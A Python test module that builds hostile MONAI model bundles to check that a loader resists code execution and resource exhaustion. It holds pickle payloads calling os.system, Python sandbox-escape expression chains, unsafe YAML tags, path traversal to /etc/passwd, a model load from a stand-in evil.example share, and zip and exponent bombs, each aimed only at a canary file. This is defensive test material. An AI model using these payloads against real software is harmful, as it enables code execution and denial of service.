"""Bundles that try to run code, reach out of their folder or exhaust the machine; harmless where they succeed.

Each attack builds a bundle; were any of it executed, a file (the canary) would appear.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import stat
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

METADATA: dict[str, Any] = {
    "version": "0.1.0",
    "monai_version": "1.6.1",
    "pytorch_version": "2.13.0",
    "numpy_version": "2.4.6",
    "task": "segmentation",
    "description": "a test model",
    "license": "MIT",
    "network_data_format": {
        "inputs": {
            "image": {
                "type": "image", "format": "magnitude", "modality": "CT", "num_channels": 1,
                "spatial_shape": [16, 16, 16], "dtype": "float32", "value_range": [0, 1],
                "is_patch_data": True, "channel_def": {"0": "image"},
            }
        },
        "outputs": {
            "pred": {
                "type": "image", "format": "segmentation", "num_channels": 2, "spatial_shape": [16, 16, 16],
                "dtype": "float32", "value_range": [0, 1], "is_patch_data": True,
                "channel_def": {"0": "background", "1": "organ"},
            }
        },
    },
}  # fmt: skip

INFERENCE: dict[str, Any] = {
    "bundle_root": ".",
    "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
    "network_def": {
        "_target_": "UNet", "spatial_dims": 3, "in_channels": 1, "out_channels": 2, "channels": [4, 8], "strides": [2],
    },
    "preprocessing": {
        "_target_": "Compose",
        "transforms": [
            {"_target_": "LoadImaged", "keys": "image"},
            {"_target_": "EnsureChannelFirstd", "keys": "image"},
            {"_target_": "ScaleIntensityd", "keys": "image"},
        ],
    },
    "inferer": {"_target_": "SlidingWindowInferer", "roi_size": [16, 16, 16], "overlap": 0.25},
    "postprocessing": {
        "_target_": "Compose",
        "transforms": [
            {"_target_": "Activationsd", "keys": "pred", "softmax": True},
            {"_target_": "AsDiscreted", "keys": "pred", "argmax": True},
        ],
    },
}  # fmt: skip


@dataclass(frozen=True)
class Attack:
    """One hostile bundle.

    Attributes:
        name: of the test.
        build: called with an empty folder and the canary's path; returns the bundle's path.
        inert: the attack lies where nothing ever looks, so the bundle may run; only the canary counts.
    """

    name: str
    build: Callable[[Path, Path], Path]
    inert: bool = False


ATTACKS: list[Attack] = []


def attack(name: str, *, inert: bool = False) -> Callable[[Callable[[Path, Path], Path]], Callable[[Path, Path], Path]]:
    def register(build: Callable[[Path, Path], Path]) -> Callable[[Path, Path], Path]:
        ATTACKS.append(Attack(name, build, inert))
        return build

    return register


def write_bundle(root: Path, config: Any = None, metadata: Any = None, *, weights: bool = True) -> Path:
    """Write a bundle that is fine but for what is passed in; ``config`` replaces ids of the inference config."""
    (root / "configs").mkdir(parents=True, exist_ok=True)
    (root / "models").mkdir(exist_ok=True)
    (root / "configs" / "metadata.json").write_text(json.dumps(METADATA if metadata is None else metadata))
    (root / "configs" / "inference.json").write_text(json.dumps({**INFERENCE, **(config or {})}))
    if weights:
        (root / "models" / "model.pt").write_bytes(state_dict_bytes())
    return root


_STATE: list[bytes] = []


def state_dict_bytes() -> bytes:
    """The test network's weights as ``torch.save`` writes them."""
    if not _STATE:
        import torch
        from monai.networks.nets import UNet

        torch.manual_seed(0)
        network = UNet(**{key: value for key, value in INFERENCE["network_def"].items() if key != "_target_"})
        buffer = io.BytesIO()
        torch.save(network.state_dict(), buffer)
        _STATE.append(buffer.getvalue())
    return _STATE[0]


class Payload:
    """Unpickling it makes the canary."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> Any:
        return (os.system, (f"touch {self.canary}",))


EVIL_MODULE = """
import pathlib
pathlib.Path({canary!r}).touch()
def run(*a, **k): pathlib.Path({canary!r}).touch()
Reader = run
"""


def write_scripts(root: Path, canary: Path) -> None:
    (root / "scripts").mkdir(exist_ok=True)
    for name in ("__init__.py", "evil.py"):
        (root / "scripts" / name).write_text(EVIL_MODULE.format(canary=str(canary)))


# --- expressions ---

EXPRESSIONS: dict[str, str] = {
    "import_call": "$__import__('os').system('touch {canary}')",
    "open": "$open('{canary}', 'w')",
    "eval": "$eval(\"open('{canary}', 'w')\")",
    "exec": "$exec(\"open('{canary}', 'w')\")",
    "compile": "$compile('1', 'x', 'eval')",
    "dunder_chain": "$().__class__.__base__.__subclasses__()",
    "dunder_of_number": "$(1).__class__.__mro__[1].__subclasses__()[100].__init__.__globals__['sys']",
    "dunder_of_text": "$''.join.__self__.__class__.__base__.__subclasses__()",
    "lambda": "$(lambda: open('{canary}', 'w'))()",
    "lambda_argument": "$sorted([1, 2], key=lambda x: open('{canary}', 'w'))",
    "fstring": "$f\"{{open('{canary}', 'w')}}\"",
    "nested_fstring": "$f\"{{1:{{open('{canary}', 'w')}}}}\"",
    "format_method": "$'{{0.__class__.__init__.__globals__}}'.format(@network_def)",
    "percent_format": "$'%s' % @network_def",
    "walrus": "$(x := open('{canary}', 'w'))",
    "list_comprehension": "$[open(p, 'w') for p in ['{canary}']]",
    "generator": "$list(open(p, 'w') for p in ['{canary}'])",
    "dict_comprehension": "${{p: open(p, 'w') for p in ['{canary}']}}",
    "comprehension_shadow": "$[len for len in [1]]",
    "getattr": "$getattr(torch, 'hub')",
    "type": "$type('X', (), {{}})",
    "vars": "$vars(@network_def)",
    "starred": "$max(*[open('{canary}', 'w')])",
    "keyword_unpacking": "$dict(**{{'a': open('{canary}', 'w')}})",
    "dict_unpacking": "${{**{{'a': open('{canary}', 'w')}}}}",
    "conditional": "$1 if open('{canary}', 'w') else 2",
    "boolean": "$False or open('{canary}', 'w')",
    "subscript": "$[1][open('{canary}', 'w')]",
    "slice": "$[1][:open('{canary}', 'w')]",
    "dict_key": "${{open('{canary}', 'w'): 1}}",
    "torch_hub": "$torch.hub.load('{root}', 'run', source='local')",
    "torch_load": "$torch.load(@bundle_root + '/data/evil.pkl', weights_only=False)",
    "torch_save": "$torch.save(1, '{canary}')",
    "numpy_load": "$np.load(@bundle_root + '/models/evil.npy', allow_pickle=True)",
    "numpy_save": "$np.save('{canary}', 1)",
    "numpy_deep": "$np.float32.__class__",
    "monai_import": "$monai.utils.optional_import('os')[0].system('touch {canary}')",
    "monai_instantiate": "$monai.utils.module.instantiate('os.system', 'default', command='touch {canary}')",
    "os": "$os.system('touch {canary}')",
    "os_path_chain": "$os.path.os.system('touch {canary}')",
    "device_chain": "$torch.device('cpu').__class__",
    "import_statement": "$import scripts.evil",
    "from_import": "$from scripts.evil import run",
    "import_after_space": "$ import os",
    "full_width_letters": "$\uff45\uff56\uff41\uff4c(\"open('{canary}', 'w')\")",
    "full_width_underscores": "$\uff3f\uff3fimport\uff3f\uff3f('os').system('touch {canary}')",
    "reference_name_guess": "$ref_0.__class__.__init__.__globals__ if @device else 0",
    "reference_attribute": "$@network_def.__class__.__init__.__globals__['__builtins__']['open']('{canary}', 'w')",
    "reference_method": "$@network_def.apply(print)",
    "reference_called": "$@inferer(1, 2)",
    "to_chain": "$@network_def.to.__globals__",
    "to_of_no_network": "$@preprocessing.to('cpu')",
    "to_text_with_code": "$@network_def.to('open')",
    "reference_in_quotes": "$'@network_def'",
    "operator_on_object": "$@network_def + 1",
    "truth_of_object": "$1 if @network_def else 2",
    "part_of_object": "$@preprocessing[0]",
    "two_lines": "$1\nopen('{canary}', 'w')",
    "semicolon": "$1; open('{canary}', 'w')",
    "backslash": "$1 + \\\nopen('{canary}', 'w')",
    "yield": "$(yield open('{canary}', 'w'))",
    "await": "$(await open('{canary}', 'w'))",
    "matrix_product": "$[1] @ [2]",
    "bytes": "$b'abc'",
    "ellipsis": "$...",
    "shift": "$1 << 10**9",
    "invert": "$~1",
    "range_object": "$range.__class__",
    "debugger": "$breakpoint()",
    "input": "$input()",
    "exit": "$exit()",
    "locals": "$__local_refs",
}

BOMBS: dict[str, Any] = {
    "power": "$9**9**9",
    "power_of_float": "$2.0**10**9",
    "power_steps": "$((((9**60)**60)**60)**60)",
    "long_text": "$'a'*10**10",
    "long_list": "$[0]*10**10",
    "long_list_left": "$10**9*[0]",
    "range": "$list(range(10**12))",
    "sum_of_range": "$sum(range(10**12))",
    "in_range": "$max(range(10**12))",
    "rounding": "$round(5, -10**9)",
    "rounding_float": "$round(0.5, 10**9)",
    "digits": "$int('9' * 4000 + '9' * 4000)",
    "huge_constant": "$" + "9" * 1900,
    "parentheses": "$" + "(" * 900 + "1" + ")" * 900,
    "minus_signs": "$" + "-" * 1900 + "1",
    "not_chain": "$" + "not " * 400 + "1",
    "plus_chain": "$" + "+".join(["1"] * 900),
    "comparison_chain": "$" + "<".join(["1"] * 900),
    "subscript_chain": "$[1]" + "[0]" * 600,
    "brackets": "$" + "[" * 190 + "]" * 190,
    "long_expression": "$" + "1+" * 200_000 + "1",
    "many_expressions": ["$" + "+".join(["1"] * 99)] * 3000,
}


def _expression_attack(name: str, text: str) -> None:
    @attack(f"expression_{name}")
    def build(root: Path, canary: Path) -> Path:
        write_scripts(root, canary)
        expression = text.format(canary=canary, root=root) if text.startswith("$") else text
        network = {**INFERENCE["network_def"], "dropout": expression}
        write_bundle(root, {"network_def": network, "loose": expression})
        _write_pickles(root, canary)
        return root


def _write_pickles(root: Path, canary: Path) -> None:
    (root / "data").mkdir(exist_ok=True)
    (root / "data" / "evil.pkl").write_bytes(pickle.dumps(Payload(canary)))


for _name, _text in EXPRESSIONS.items():
    _expression_attack(_name, _text)

_OPEN = "$open('{canary}', 'w')"


def _config_attack(name: str, config: Any, *, inert: bool = False) -> None:
    """Register an attack that is a config; every ``{canary}`` and ``{root}`` in its texts is filled in."""

    @attack(name, inert=inert)
    def build(root: Path, canary: Path) -> Path:
        root.mkdir(parents=True, exist_ok=True)
        write_scripts(root, canary)
        filled = fill(config, canary, root)
        write_bundle(root, filled)
        _write_pickles(root, canary)
        return root


def fill(node: Any, canary: Path, root: Path) -> Any:
    if isinstance(node, str):
        return node.replace("{canary}", str(canary)).replace("{root}", str(root))
    if isinstance(node, dict):
        return {fill(key, canary, root): fill(value, canary, root) for key, value in node.items()}
    return [fill(item, canary, root) for item in node] if isinstance(node, list) else node


_NET = INFERENCE["network_def"]
for _name, _bomb in BOMBS.items():
    _config_attack(f"bomb_{_name}", {"network_def": {**_NET, "dropout": _bomb}, "loose": _bomb})

# --- every place a config can hold an expression ---

_PLACES: dict[str, Any] = {
    "whole_network": {"network_def": _OPEN},
    "whole_preprocessing": {"preprocessing": _OPEN},
    "list_item": {"preprocessing": {"_target_": "Compose", "transforms": [_OPEN]}},
    "list_of_lists": {"inferer": {"_target_": "SlidingWindowInferer", "roi_size": [[_OPEN], 1, 1]}},
    "nested_argument": {"network_def": {**_NET, "act": ["relu", {"inplace": _OPEN}]}},
    "disabled": {"network_def": {**_NET, "_disabled_": _OPEN}},
    "requires_text": {"network_def": {**_NET, "_requires_": _OPEN}},
    "requires_list": {"network_def": {**_NET, "_requires_": [1, _OPEN]}},
    "requires_reference": {"network_def": {**_NET, "_requires_": "@evil"}, "evil": _OPEN},
    "requires_component": {
        "network_def": {**_NET, "_requires_": {"_target_": "os.system", "command": "touch {canary}"}}
    },
    "mode_expression": {"network_def": {**_NET, "_mode_": _OPEN}},
    "mode_callable": {"network_def": {**_NET, "_mode_": "callable"}},
    "mode_debug": {"network_def": {**_NET, "_mode_": "debug"}},
    "debug_argument": {"network_def": {**_NET, "_debug_": True}},
    "dunder_argument": {"network_def": {**_NET, "__class__": "x"}},
    "odd_argument": {"network_def": {**_NET, "a b": 1}},
    "target_expression": {"network_def": {"_target_": _OPEN}},
    "target_lambda": {"network_def": {"_target_": "$lambda **k: open('{canary}', 'w')"}},
    "target_reference": {"network_def": {"_target_": "@evil"}, "evil": "$print"},
    "target_macro": {"network_def": {"_target_": "%evil", "command": "touch {canary}"}, "evil": "os.system"},
    "target_list": {"network_def": {"_target_": ["os.system"], "command": "touch {canary}"}},
    "target_object": {"network_def": {"_target_": {"_target_": "os.system", "command": "touch {canary}"}}},
    "macro_of_component": {"network_def": "%evil", "evil": {"_target_": "os.system", "command": "touch {canary}"}},
    "macro_to_file": {"network_def": "%/etc/evil.json::network_def"},
    "macro_to_own_file": {"network_def": "%configs/inference.json#preprocessing"},
    "macro_to_yaml": {"network_def": "%{root}/configs/evil.YAML::a"},
    "macro_relative": {"network_def": {**_NET, "dropout": "%##evil"}, "evil": _OPEN},
    "macro_chain": {
        "network_def": "%one",
        "one": "%two",
        "two": {"_target_": "os.system", "command": "touch {canary}"},
    },
    "reference_chain": {"network_def": "@one", "one": "@two", "two": _OPEN},
    "reference_relative": {"network_def": {**_NET, "dropout": "@##evil"}, "evil": _OPEN},
    "reference_old_separator": {"network_def": {**_NET, "dropout": "@evil#a#0"}, "evil": {"a": [_OPEN]}},
    "nested_id_key": {"network_def#dropout": _OPEN},
    "nested_id_key_new": {"network_def::_target_": "os.system", "network_def::command": "touch {canary}"},
    "inverse_of_evil": {
        "postprocessing": {
            "_target_": "Compose",
            "transforms": [{"_target_": "Invertd", "keys": "pred", "transform": {"_target_": "scripts.evil.run"}}],
        }
    },
    "device": {"device": _OPEN, "network_def": {**_NET, "dropout": "$@device"}},
    "bundle_root": {"bundle_root": _OPEN, "network_def": {**_NET, "dropout": "$open(@bundle_root + '/x', 'w')"}},
    "checkpoint_path": {"ckpt_path": _OPEN},
    "evaluator": {"evaluator": {"_target_": "scripts.evil.run"}, "run": ["$@evaluator.run()"]},
    "handlers": {"handlers": [{"_target_": "CheckpointLoader", "load_path": "{root}/data/evil.pkl"}]},
    "imports": {"imports": ["$import scripts", "$from scripts.evil import run"]},
    "initialize": {"initialize": ["$monai.utils.set_determinism(seed=1)", "$import scripts.evil"]},
}
for _name, _config in _PLACES.items():
    _config_attack(f"place_{_name}", _config)

_config_attack("place_key_of_object", {_OPEN: 1, "extra": {_OPEN: {"a": 1}}}, inert=True)
_config_attack("place_description", {"network_def": {**_NET, "_desc_": _OPEN}}, inert=True)
_config_attack("place_text_after_space", {"extra": " $open('{canary}', 'w')"}, inert=True)

# --- targets ---

_TOUCH = {"command": "touch {canary}"}
_TARGETS: dict[str, dict[str, Any]] = {
    "os.system": _TOUCH,
    "posix.system": _TOUCH,
    "builtins.eval": {"source": "open('{canary}', 'w')"},
    "builtins.exec": {"source": "open('{canary}', 'w')"},
    "builtins.open": {"file": "{canary}", "mode": "w"},
    "builtins.__import__": {"name": "scripts.evil"},
    "subprocess.run": {"args": ["touch", "{canary}"]},
    "subprocess.Popen": {"args": ["touch", "{canary}"]},
    "runpy.run_path": {"path_name": "{root}/scripts/evil.py"},
    "importlib.import_module": {"name": "scripts.evil"},
    "pathlib.Path": {},
    "shutil.rmtree": {"path": "{root}/scripts"},
    "functools.partial": {"func": "$print"},
    "pickle.loads": {"data": "x"},
    "numpy.load": {"file": "{root}/models/evil.npy", "allow_pickle": True},
    "numpy.save": {"file": "{canary}", "arr": 1},
    "torch.load": {"f": "{root}/data/evil.pkl", "weights_only": False},
    "torch.save": {"obj": 1, "f": "{canary}"},
    "torch.hub.load": {"repo_or_dir": "{root}", "model": "run", "source": "local"},
    "torch.ops.load_library": {"path": "{root}/models/evil.so"},
    "torch.jit.script": {"obj": 1},
    "torch.utils.model_zoo.load_url": {"url": "file://{root}/data/evil.pkl"},
    "torch.package.PackageImporter": {"file_or_buffer": "{root}/models/model.pt"},
    "monai.bundle.load": {"name": "x"},
    "monai.bundle.run": {"config_file": "{root}/configs/inference.json"},
    "monai.bundle.ConfigParser": {"config": {"a": _OPEN}},
    "monai.bundle.config_item.ConfigExpression": {"config": _OPEN},
    "monai.utils.optional_import": {"module": "scripts.evil"},
    "monai.utils.module.instantiate": {"__path": "os.system", "__mode": "default"},
    "monai.utils.load_submodules": {"basemod": "x"},
    "monai.transforms.Lambda": {"func": "$print"},
    "monai.transforms.Lambdad": {"keys": "image", "func": "$print"},
    "Lambdad": {"keys": "image", "func": "$print"},
    "LambdaD": {"keys": "image", "func": "$print"},
    "TorchVisiond": {"keys": "image", "name": "ColorJitter"},
    "DataStatsd": {"keys": "image", "additional_info": "$print"},
    "SaveImage": {"output_dir": "{root}", "writer": "scripts.evil.run"},
    "LoadImage": {"reader": "scripts.evil.run"},
    "monai.transforms.io.dictionary.LoadImaged": {"keys": "image", "reader": "scripts.evil.run"},
    "monai.networks.nets.torch.hub.load": {"repo_or_dir": "{root}", "model": "run", "source": "local"},
    "monai.networks.nets.unet.torch.load": {"f": "{root}/data/evil.pkl", "weights_only": False},
    "monai.networks.nets.unet.warnings.sys.modules": {},
    "monai.transforms.compose.np.load": {"file": "{root}/models/evil.npy", "allow_pickle": True},
    "monai.inferers.PatchInferer": {"merger_cls": "scripts.evil.run"},
    "monai.networks.nets.HoVerNet": {"pretrained_url": "file://{root}/data/evil.pkl"},
    "monai.networks.nets.TorchVisionFCModel": {"model_name": "resnet18", "pretrained": True},
    "monai.networks.nets.FlexUNetEncoderRegister": {},
    "monai.networks.nets.flexible_unet.locate": {"path": "scripts.evil"},
    "scripts.evil.run": {},
    "scripts.evil.Reader": {},
    "evil": {},
    "UNet ": {},
    "unet": {},
    "": {},
    ".": {},
    "UNet.__init__.__globals__": {},
    "monai.networks.nets.UNet.__init__": {},
    "monai.networks.nets.UNet.load_state_dict": {},
    "torch.nn.Module": {},
    "torch.nn.modules.module.torch.load": {"f": "{root}/data/evil.pkl", "weights_only": False},
    "pdb.runcall": {"func": "$print"},
    "DataLoader": {"dataset": []},
    "monai.apps.download_and_extract": {"url": "file://{root}/data/evil.pkl", "output_dir": "{root}"},
    "logging.config.fileConfig": {"fname": "{root}/configs/logging.conf"},
    "yaml.unsafe_load": {"stream": "!!python/object/apply:os.system ['touch {canary}']"},
}
for _number, (_target, _arguments) in enumerate(_TARGETS.items()):
    _config_attack(
        f"target_{_number:02d}_{_target.strip() or 'empty'}", {"network_def": {"_target_": _target, **_arguments}}
    )

_config_attack(
    "target_loader_outside_a_list",
    {"preprocessing": {"_target_": "LoadImaged", "keys": "image", "reader": "scripts.evil.run"}},
)
_config_attack(
    "target_named_like_a_loader",
    {
        "preprocessing": {
            "_target_": "Compose",
            "transforms": [{"_target_": "scripts.evil.LoadImaged", "keys": "image"}],
        }
    },
)

# --- arguments of allowed classes ---

_ARGUMENTS: dict[str, Any] = {
    "pretrained": {"_target_": "EfficientNetBN", "model_name": "efficientnet-b0", "pretrained": True},
    "pretrained_path": {
        "_target_": "resnet18", "pretrained": "{root}/data/evil.pkl", "n_input_channels": 1, "spatial_dims": 3,
        "feed_forward": False, "shortcut_type": "A", "bias_downsample": True,
    },
    "pretrained_computed": {
        "_target_": "DenseNet121", "spatial_dims": 2, "in_channels": 3, "out_channels": 2, "pretrained": "$1 == 1",
    },
    "function_given": {
        "_target_": "CropForegroundd", "keys": "a", "source_key": "a", "select_fn": {"_target_": "Identity"},
    },
    "post_function": {"_target_": "Invertd", "keys": "a", "transform": {"_target_": "Identity"}, "post_func": "$len"},
    "activation_other": {"_target_": "Activationsd", "keys": "a", "other": "@inferer"},
    "log_stats": {"_target_": "Compose", "transforms": [], "log_stats": "evil.logger"},
    "pattern": {"_target_": "DeleteItemsd", "keys": "(a+)+$", "use_re": True},
    "program_outside": {"_target_": "torch.jit.load", "f": "/etc/passwd"},
    "program_climbing": {"_target_": "torch.jit.load", "f": "$@bundle_root + '/../../../../etc/passwd'"},
    "program_extra": {"_target_": "torch.jit.load", "f": "models/model.pt", "_extra_files": {}},
    "program_object": {"_target_": "torch.jit.load", "f": ["models/model.pt"]},
    "many_channels": {**_NET, "channels": [10**9, 10**9]},
    "many_units": {**_NET, "num_res_units": 10**9},
    "size_without_trial": {
        "_target_": "SwinUNETR", "in_channels": 16380, "out_channels": 2, "feature_size": 16380, "depths": [1, 1, 1, 1],
        "num_heads": [1, 1, 1, 1],
    },
    "many_networks": {
        **_NET, "_requires_": [{"_target_": "torch.nn.LayerNorm", "normalized_shape": [16000, 16000]}] * 5,
    },
    "many_blocks": {
        "_target_": "EfficientNet", "blocks_args_str": ["r30000_k3_s11_e1_i8_o8_se0.25"], "in_channels": 1,
        "num_classes": 2,
    },
    "large_network": {**_NET, "channels": [16000, 16000, 16000], "strides": [2, 2]},
}  # fmt: skip
for _name, _component in _ARGUMENTS.items():
    _config_attack(f"argument_{_name}", {"network_def": _component})
_config_attack(
    "argument_window",
    {"inferer": {"_target_": "SlidingWindowInferer", "roi_size": [4000, 4000, 4000], "cache_roi_weight_map": True}},
)

_config_attack(
    "argument_anchors",
    {
        "network_def": "$monai.apps.detection.utils.anchor_utils.AnchorGeneratorWithAnchorShape("
        "feature_map_scales=[1] * 10000, base_anchor_shapes=[[1, 1, 1]] * 10000)",
    },
)
_config_attack(
    "argument_anchor_sizes",
    {
        "network_def": {
            "_target_": "monai.apps.detection.utils.anchor_utils.AnchorGenerator",
            "sizes": "$[list(range(1, 300))] * 100",
            "aspect_ratios": "$[list(range(1, 300))] * 100",
        },
    },
)
_config_attack(
    "argument_fine_spacing",
    {"preprocessing": {"_target_": "Compose", "transforms": [{"_target_": "Spacingd", "keys": "a", "pixdim": 1e-7}]}},
)
_config_attack(
    "argument_large_image",
    {
        "preprocessing": {
            "_target_": "Compose",
            "transforms": [{"_target_": "SpatialPadd", "keys": "a", "spatial_size": [9000, 9000, 9000]}],
        }
    },
)
_config_attack(
    "argument_program_on_another_computer",
    {"network_def": {"_target_": "torch.jit.load", "f": "//evil.example/share/model.ts"}},
)

# --- size and depth ---

_doubling = {f"a{level}": [f"@a{level - 1}", f"@a{level - 1}"] for level in range(1, 50)}
_config_attack(
    "bomb_shared_lists", {"a0": [1], **_doubling, "network_def": {**_NET, "channels": "@a49"}, "loose": "$@a48 == @a49"}
)
_config_attack(
    "bomb_doubling_text",
    {"b0": "aaaa", **{f"b{n}": f"$@b{n - 1} + @b{n - 1}" for n in range(1, 60)}, "network_def": "@b59"},
)
_config_attack(
    "bomb_doubling_list",
    {"c0": "$[1, 2]", **{f"c{n}": f"$@c{n - 1} + @c{n - 1}" for n in range(1, 59)}, "network_def": "@c58"},
)
_config_attack(
    "bomb_copies",
    {"d0": [1, 2], **{f"d{n}": [f"%d{n - 1}", f"%d{n - 1}"] for n in range(1, 40)}, "network_def": "@d39"},
)
_config_attack(
    "bomb_doubling_path",
    {"p0": "aaaa", **{f"p{n}": f"$os.path.join(@p{n - 1}, @p{n - 1})" for n in range(1, 59)}, "network_def": "@p58"},
)
_config_attack("bomb_relative_ids", {"k" * 200_000: {"a": {"b": "$" + "@##" * 20_000}}})
_config_attack(
    "bomb_missing_references",
    {**{f"k{n}": 0 for n in range(20_000)}, "network_def": {**_NET, "dropout": [f"@m{n}" for n in range(20_000)]}},
)
_config_attack(
    "bomb_aliases",
    {
        "l": [[[[0] * 30_000]]],
        "network_def": {
            **_NET,
            "dropout": [f"@l::{'0' * (n % 8 + 1)}::{'0' * (n // 8 % 8 + 1)}::{'0' * (n // 64 + 1)}" for n in range(512)]
        },
    },
)
_config_attack("bomb_blanks", {"network_def": "$@inferer" + " " * 100_000 + "!"})
_config_attack(
    "bomb_steps",
    {
        "postprocessing": {"_target_": "Compose", "transforms": ["@s1"] * 500},
        **{f"s{n}": "$" + " + ".join([f"@s{n + 1}"] * 140) for n in range(1, 5)},
        "s5": [{"_target_": "EvilSaver", "output_dir": "{canary}"}],
    },
)
_config_attack("bomb_copy_of_itself", {"network_def": {**_NET, "dropout": "%network_def"}})
_config_attack("bomb_circle", {"network_def": "@one", "one": "$@two", "two": ["@one"]})
_config_attack("bomb_whole_config", {"network_def": "@", "loose": "$@", "other": "%"})
_config_attack("bomb_chain", {**{f"e{n}": f"@e{n + 1}" for n in range(5000)}, "e5000": 1, "network_def": "@e0"})


@attack("bomb_json_depth")
def _json_depth(root: Path, canary: Path) -> Path:
    write_bundle(root)
    (root / "configs" / "inference.json").write_text('{"a": ' + "[" * 100_000 + "]" * 100_000 + "}")
    return root


@attack("bomb_json_number")
def _json_number(root: Path, canary: Path) -> Path:
    write_bundle(root)
    (root / "configs" / "inference.json").write_text('{"a": ' + "9" * 1_000_000 + "}")
    return root


@attack("bomb_json_size")
def _json_size(root: Path, canary: Path) -> Path:
    write_bundle(root)
    (root / "configs" / "inference.json").write_text('{"a": "' + "x" * (9 << 20) + '"}')
    return root


# --- YAML ---

_YAMLS = {
    "python_tag": "network_def: !!python/object/apply:os.system ['touch {canary}']\n",
    "python_name": "network_def: !!python/name:os.system\n",
    "python_module": "network_def: !!python/module:scripts.evil\n",
    "python_new": "network_def: !!python/object/new:os.system ['touch {canary}']\n",
    "alias_bomb": "a: &a [x,x,x,x,x,x,x,x,x]\n"
    + "".join(f"{n}: &{n} [{','.join(['*' + p] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True))
    + "network_def: *i\n",
    "merge_bomb": "a: &a {x: 1}\n"
    + "".join(f"{n}: &{n} {{<<: [*{p}, *{p}]}}\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True))
    + "network_def: *i\n",
    "own_alias": "network_def: &a [*a]\n",
    "depth": "network_def: " + "[" * 5000 + "]" * 5000 + "\n",
    "binary": "network_def: !!binary aGVsbG8=\n",
    "set": "network_def: !!set {a, b}\n",
    "list_key": "network_def: {[1, 2]: 3}\n",
    "not_a_number": "network_def: .nan\n",
    "two_documents": "a: 1\n---\nb: 2\n",
    "expression": "network_def: \"$open('{canary}', 'w')\"\n",
}


def _yaml_attack(name: str, text: str) -> None:
    @attack(f"yaml_{name}")
    def build(root: Path, canary: Path) -> Path:
        write_bundle(root)
        write_scripts(root, canary)
        (root / "configs" / "inference.json").unlink()
        (root / "configs" / "inference.yaml").write_text(text.replace("{canary}", str(canary)))
        return root


for _name, _text in _YAMLS.items():
    _yaml_attack(_name, _text)

# --- weights ---


def _weights_attack(name: str, file: str, content: Callable[[Path], bytes]) -> None:
    @attack(f"weights_{name}")
    def build(root: Path, canary: Path) -> Path:
        write_bundle(root, weights=False)
        (root / "models" / file).write_bytes(content(canary))
        return root


def _plain_pickle(canary: Path) -> bytes:
    return pickle.dumps(Payload(canary), protocol=2)


def _saved(canary: Path) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save({"state_dict": {"a": torch.zeros(1)}, "evil": Payload(canary)}, buffer)
    return buffer.getvalue()


def _saved_legacy(canary: Path) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save({"evil": Payload(canary)}, buffer, _use_new_zipfile_serialization=False)
    return buffer.getvalue()


def _whole_module(canary: Path) -> bytes:
    import torch
    from monai.networks.nets import UNet

    buffer = io.BytesIO()
    torch.save(UNet(3, 1, 2, [4, 8], [2]), buffer)
    return buffer.getvalue()


def _tar(canary: Path) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            data = pickle.dumps(Payload(canary), protocol=2)
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def torchscript_bytes(canary: Path) -> bytes:
    """A TorchScript program that writes the canary while it is loaded."""
    import torch

    class Evil(torch.nn.Module):
        def __init__(self, path: str) -> None:
            super().__init__()
            self.path = path
            self.training = False

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x

        @torch.jit.export
        def __getstate__(self) -> tuple[str, bool]:
            return self.path, self.training

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool]) -> None:
            self.path = state[0]
            self.training = state[1]
            torch.save(torch.ones(1), state[0])

    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(Evil(str(canary))), buffer)
    return buffer.getvalue()


def _torchscript_renamed(canary: Path) -> bytes:
    """The same program with the entries' letters in another case, to slip past a check of names."""
    source, target = io.BytesIO(torchscript_bytes(canary)), io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            new.writestr(name.replace("constants.pkl", "CONSTANTS.PKL"), old.read(name))
    return target.getvalue()


def _pickle_before_zip(canary: Path) -> bytes:
    return _plain_pickle(canary) + state_dict_bytes()


def _zip_before_pickle(canary: Path) -> bytes:
    return state_dict_bytes() + _plain_pickle(canary)


def _sparse(canary: Path) -> bytes:
    """A tensor whose indices lead out of it."""
    import torch

    buffer = io.BytesIO()
    indices = torch.tensor([[10**9]])
    tensor = torch.sparse_coo_tensor(indices, torch.ones(1), (2 * 10**9,), check_invariants=True)
    torch.save({"a": tensor}, buffer)
    return buffer.getvalue()


def _two_pickles(canary: Path) -> bytes:
    buffer = io.BytesIO(state_dict_bytes())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("archive/data.pkl", _plain_pickle(canary))
        archive.writestr("evil/data.pkl", _plain_pickle(canary))
    return buffer.getvalue()


def _weights_bomb(canary: Path) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", state_dict_bytes()[:10])
        archive.writestr("archive/data/0", bytes(120 << 20))
    return buffer.getvalue()


for _file in ("model.pt", "model.pth", "model.ckpt", "model.safetensors", "model.bin", "model.pkl", "model.ts"):
    _weights_attack(f"pickle_{_file}", _file, _plain_pickle)
    _weights_attack(f"saved_{_file}", _file, _saved)
_weights_attack("legacy", "model.pt", _saved_legacy)
_weights_attack("whole_module", "model.pt", _whole_module)
_weights_attack("tar", "model.pt", _tar)
_weights_attack("torchscript_as_pt", "model.pt", torchscript_bytes)
_weights_attack("torchscript_as_safetensors", "model.safetensors", torchscript_bytes)
_weights_attack("torchscript_renamed", "model.pt", _torchscript_renamed)
_weights_attack("pickle_before_zip", "model.pt", lambda canary: _plain_pickle(canary) + _saved(canary))
_weights_attack("zip_before_pickle", "model.pt", lambda canary: _saved(canary) + _plain_pickle(canary))
_weights_attack("two_pickles", "model.pt", _two_pickles)
_weights_attack("zip_bomb", "model.pt", _weights_bomb)
